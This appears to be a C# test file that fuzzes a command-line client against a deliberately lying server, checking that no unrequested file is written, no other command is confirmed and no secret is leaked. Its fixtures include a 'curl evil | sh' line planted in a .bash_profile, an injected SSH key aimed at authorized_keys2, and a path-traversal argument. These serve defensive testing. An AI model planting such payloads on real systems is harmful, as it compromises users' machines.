using System.Collections.Immutable;
using System.Diagnostics;
using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using AxSpa.Pipeline.Texts;
using AxSpa.Shared.Pbm;

namespace AxSpa.Pbm.Tests.Lying;

/// <summary>
/// A host that is not what it should be, and a person who agrees to everything. No file but the one that was asked for comes to be, none is changed or
/// read, no other command is given, nothing hidden is shown, and pbm ends. <c>AXSPA_FUZZ</c> says how many lies are told.
/// </summary>
// The folder of the process is changed, and its memory measured.
[CollectionDefinition(nameof(LyingServerTests), DisableParallelization = true)]
[Collection(nameof(LyingServerTests))]
public sealed partial class LyingServerTests(ITestOutputHelper output) : IDisposable
{
    private const int Seed = 20261126;

    /// <summary>Typed at the prompt.</summary>
    private const string Keys = "run des⇥la⇥⏎^Drun list⏎^D^D";

    private const int UsualLies = 1500;

    /// <summary>Connections that have ended keep a port of their server for a minute.</summary>
    private const int LiesOfOneServer = 5000;

    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(10);
    private const long MostBytes = 1L << 30;

    private readonly ClientRoom _room = new();

    public void Dispose() => _room.Dispose();

    private string[][] Commands =>
    [
        ["run", "list"], ["run", "list", "-o", "json"], ["run", "watch", "last"], ["run", "cancel", "last"], ["run", "delete", "2026"],
        ["cluster", "down", "-a", "127.0.0.1:4055"], ["run", "results", "last", "--download", _room.Target],
        ["run", "results", "last", "--download", "brought"],
        ["bundle"], ["bundle", "--out", _room.Target], ["run", "submit", "run.yaml"], [],
    ];

    [Fact]
    public async Task A_bundle_is_named_by_the_client()
    {
        using var server = LyingServer.Saying(File(".bash_profile", "curl evil | sh\n"));
        var shown = await ClientRoom.Pbm(server.Address, ["bundle"]);
        Assert.Equal(0, shown.Exit);
        Assert.Matches(Bundle(), Assert.Single(_room.Changes()));
    }

    [Theory]
    [InlineData("run", "submit", "{home}/secret.yaml", "--yes")]
    [InlineData("bundle", "--out", "{home}/.ssh/authorized_keys2", "--yes")]
    [InlineData("run", "delete", "20261126-031618-a1b2", "--yes")]
    [InlineData("run", "cancel", "20261126-031618-a1b2", "--yes", "--new")]
    [InlineData("run", "cancel", "../20261126-031618-a1b2", "--yes")]
    public async Task Only_the_command_that_was_typed_is_confirmed(params string[] again)
    {
        string[] words = [.. again.Select(word => word.Replace("{home}", _room.Home, StringComparison.Ordinal))];
        using var server = LyingServer.Saying([Asking("end run 20261126-031618-a1b2", words), .. File("x", "ssh-ed25519 AAAA evil\n")]);
        var shown = await ClientRoom.Pbm(server.Address, ["run", "cancel", "last"]);
        Assert.Equal(2, shown.Exit);
        Assert.Contains("asks to confirm another command", shown.Err);
        Assert.Single(server.Told);
        Assert.Empty(_room.Changes());
    }

    [Fact]
    public async Task A_host_that_asks_for_ever_is_asked_twice()
    {
        using var server = LyingServer.Saying(Asking("x", "run", "cancel", "20261126-031618-a1b2", "--yes"), new PbmAnswer(Exit: 2));
        Assert.Equal(2, (await ClientRoom.Pbm(server.Address, ["run", "cancel", "last"])).Exit);
        Assert.Equal(2, server.Told.Count);
        Assert.Contains("\"20261126-031618-a1b2\",\"--yes\"", server.Told.Last());
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    public async Task A_host_that_is_done_before_all_was_sent_is_not_believed(int sent)
    {
        using var server = LyingServer.Saying([.. File("x", "half of it").Take(sent), new PbmAnswer(Exit: 0)]);
        var shown = await ClientRoom.Pbm(server.Address, ["bundle", "--out", _room.Target]);
        Assert.Equal(2, shown.Exit);
        Assert.Contains("Nothing was kept", shown.Err);
        Assert.Empty(_room.Changes());
    }

    [Fact]
    public async Task Whatever_a_host_answers_nothing_happens_that_was_not_asked_for()
    {
        var lies = Environment.GetEnvironmentVariable("AXSPA_FUZZ") is { } told ? int.Parse(told, CultureInfo.InvariantCulture) : UsualLies;
        var (began, longest, slowest, kept, exits) = (Stopwatch.GetTimestamp(), TimeSpan.Zero, 0, 0, new SortedDictionary<int, int>());
        for (var number = 0; number < lies;)
        {
            var lie = new Lies(0, _room);
            using var server = new LyingServer(_ => lie.Next());
            for (var end = Math.Min(lies, number + LiesOfOneServer); number < end; number++)
            {
                lie = new Lies(Seed + number, _room);
                var (command, start) = (Commands[number % Commands.Length], Stopwatch.GetTimestamp());
                try
                {
                    var shown = await ClientRoom.Pbm(server.Address, command, Keys).WaitAsync(Patience, TestContext.Current.CancellationToken);
                    exits[shown.Exit] = exits.GetValueOrDefault(shown.Exit) + 1;
                    Assert.True(VisibleText.IsPlain(shown.Out), "something hidden was shown");
                    Assert.InRange(shown.Exit, 0, 255);
                    var changes = _room.Changes();
                    kept += changes.Count > 0 ? 1 : 0;
                    Assert.All(changes, change => Assert.True(IsAskedFor(command, change), change));
                    Assert.All(server.Told, request => IsTyped(command, request));
                }
                catch (Exception trouble)
                {
                    throw new InvalidOperationException($"random seed {Seed + number}, pbm {string.Join(' ', command)}: {trouble.Message}", trouble);
                }
                server.Told.Clear();
                if (Stopwatch.GetElapsedTime(start) is var took && took > longest)
                    (longest, slowest) = (took, Seed + number);
            }
        }
        var status = await System.IO.File.ReadAllTextAsync("/proc/self/status", TestContext.Current.CancellationToken);
        var most = 1024 * long.Parse(Regex.Match(status, @"VmHWM:\s+(\d+) kB").Groups[1].Value, CultureInfo.InvariantCulture);
        var codes = exits.GroupBy(exit => exit.Key <= 4 ? $"{exit.Key}" : "others").Select(group => $"{group.Key}: {group.Sum(exit => exit.Value)}");
        output.WriteLine(string.Create(CultureInfo.InvariantCulture,
            $"{lies} lies in {Stopwatch.GetElapsedTime(began).TotalSeconds:F0} s, the longest {longest.TotalSeconds:F2} s (random seed {slowest}); "
            + $"{most >> 20} MiB at most"));
        output.WriteLine($"files were kept {kept} times; exit codes {string.Join(", ", codes)}");
        Assert.InRange(most, 0, MostBytes);
        Assert.True(kept > lies / 200, "hardly any file was kept, so this shows little");
    }

    private static bool IsAskedFor(string[] command, string change) => command switch
    {
        ["bundle"] => Bundle().IsMatch(change),
        ["bundle", "--out", ..] => change == "here/brought",
        ["run", "results", ..] => $"{change}/".StartsWith("here/brought/", StringComparison.Ordinal) && !change.Split('/').Any(part => part.StartsWith('.')),
        _ => false,
    };

    /// <summary>The command, or the command with its run named and confirmed; with the file that was typed and no other.</summary>
    private static void IsTyped(string[] command, string request)
    {
        Assert.DoesNotContain(ClientRoom.Secret, request);
        var told = PbmJson.ReadRequest(Encoding.UTF8.GetBytes(request));
        if (command.Length == 0)
        {
            Assert.True(told.Palette is PbmRequest.Hello or PbmRequest.Complete or "run", request);
            return;
        }
        ImmutableArray<string> typed = [.. command.TakeWhile(word => word != "-o")], said = [told.Palette, told.Command, .. told.Args];
        said = [.. said.Where(word => word.Length > 0)];
        var isConfirmed = said.Length == typed.Length + 1 && said[^1] == "--yes" && said[0] == typed[0]
            && said.SkipLast(1).Index().All(word => word.Item == typed[word.Index] || word.Item.StartsWith("2026", StringComparison.Ordinal));
        Assert.True(said.SequenceEqual(typed) || isConfirmed, request);
        Assert.All(told.Files, file => Assert.Equal("run.yaml", file.Argument));
    }

    private static PbmAnswer Asking(string would, params string[] again) => new(Err: "it wants --yes", Ask: new PbmQuestion(would, [.. again]));

    private static PbmAnswer[] File(string name, string content) =>
    [
        new(File: new PbmFile(name)), new(Part: Encoding.UTF8.GetBytes(content)),
        new(End: new PbmFileEnd(content.Length, Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(content))))), new(Exit: 0),
    ];

    [GeneratedRegex(@"^here/axspa-bundle-\d{8}-\d{6}\.tar\.gz$")]
    private static partial Regex Bundle();
}
